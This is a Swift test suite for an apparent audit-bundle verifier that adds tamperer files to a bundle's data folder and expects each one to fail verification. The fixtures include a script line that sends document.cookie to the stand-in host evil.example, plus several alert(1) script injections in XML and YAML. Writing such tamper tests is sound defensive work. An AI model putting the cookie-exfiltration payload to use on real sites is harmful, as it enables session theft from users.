import CountersignKit
import Foundation
import TestSupport
import Testing

/// Every file under a bag's `data/` is one `verify-bundle` knows: an added file, however it is
/// named, fails the bag — even with the manifests re-made to list it.
@Suite("Audit bundles: no payload file nothing refers to")
struct BundlePayloadFileTests {
    static let script = "<html><body><script>fetch('https://evil.example/?'+document.cookie)</script></body></html>\n"

    /// A file a tamperer adds, and the FAIL line it must cause.
    struct Addition: Sendable, CustomStringConvertible {
        let path: String
        let contents: String
        let failure: String
        var description: String { path }
    }

    static let version = "is no file of version mortgage-approval@sha256:"

    static let additions = [
        // Beside the pipeline version's files: not one of them.
        Addition(
            path: "data/schemas/report.html",
            contents: script,
            failure: "pipeline: data/schemas/report.html \(version)"
        ),
        Addition(
            path: "data/schemas/valuation-2.xsd",
            contents: script,
            failure: "pipeline: data/schemas/valuation-2.xsd \(version)"
        ),
        Addition(
            path: "data/schemas/more/types.xsd",
            contents: script,
            failure: "pipeline: data/schemas/more/types.xsd \(version)"
        ),
        Addition(path: "data/index.html", contents: script, failure: "pipeline: data/index.html \(version)"),
        Addition(path: "data/.hidden", contents: script, failure: "pipeline: data/.hidden \(version)"),
        // In the layout's own folders, not named as the layout names files there.
        Addition(
            path: "data/parties/bank.html",
            contents: script,
            failure: "contents: data/parties/bank.html does not belong in a bundle"
        ),
        Addition(
            path: "data/entries/index.html",
            contents: script,
            failure: "contents: data/entries/index.html is not named INDEX.dsse.json"
        ),
        Addition(
            path: "data/checkpoints/index.html",
            contents: script,
            failure: "contents: data/checkpoints/index.html is not named SIZE.txt or SIZE.consistency"
        ),
        Addition(
            path: "data/documents/index.html",
            contents: script,
            failure: "contents: data/documents/index.html is not named NAME.xml or NAME@INDEX.xml"
        ),
        Addition(
            path: "data/case-head.proof.html",
            contents: script,
            failure: "pipeline: data/case-head.proof.html is no file of version"
        ),
        // Named as the layout names files, but nothing refers to them.
        Addition(
            path: "data/documents/notes.xml",
            contents: "<notes><script>alert(1)</script></notes>\n",
            failure: "documents: data/documents/notes.xml is attached by no entry in the bundle"
        ),
        Addition(
            path: "data/proofs/99999999.tlog-proof",
            contents: script,
            failure: "contents: data/proofs/99999999.tlog-proof proves an entry the bundle does not hold"
        ),
        Addition(
            path: "data/parties/mallory.yaml",
            contents: "party: mallory\nname: <script>alert(1)</script>\nkeys: []\n",
            failure:
                "governance: data/parties/mallory.yaml is the party file of 'mallory', whom no entry of the bag names"
        ),
    ]

    @Test("a file added to the payload, listed in re-made manifests, fails verify-bundle naming it")
    func addedFiles() throws {
        let fixture = try BundleFixture(cosigned: false)
        try fixture.bundleCase()
        #expect(try fixture.verify(fixture.bundle).status == 0)
        for addition in Self.additions {
            let bag = try fixture.copyOfBundle()
            let url = bag.appendingPathComponent(addition.path)
            try FileManager.default.createDirectory(
                at: url.deletingLastPathComponent(),
                withIntermediateDirectories: true
            )
            try Data(addition.contents.utf8).write(to: url)
            try BundleFixture.recomputeManifests(bag)
            let result = try fixture.verify(bag)
            #expect(result.status == 1, "\(addition): \(result.stdout)")
            let failures = result.stdout.split(separator: "\n").filter { $0.hasPrefix("FAIL: ") }
            #expect(
                failures.contains { $0.hasPrefix("FAIL: " + addition.failure) },
                "\(addition): no FAIL line begins with '\(addition.failure)':\n\(result.stdout)"
            )
            #expect(!result.stdout.contains("ok: rules:"), "\(addition): checks went on after the failure")
        }
    }
}
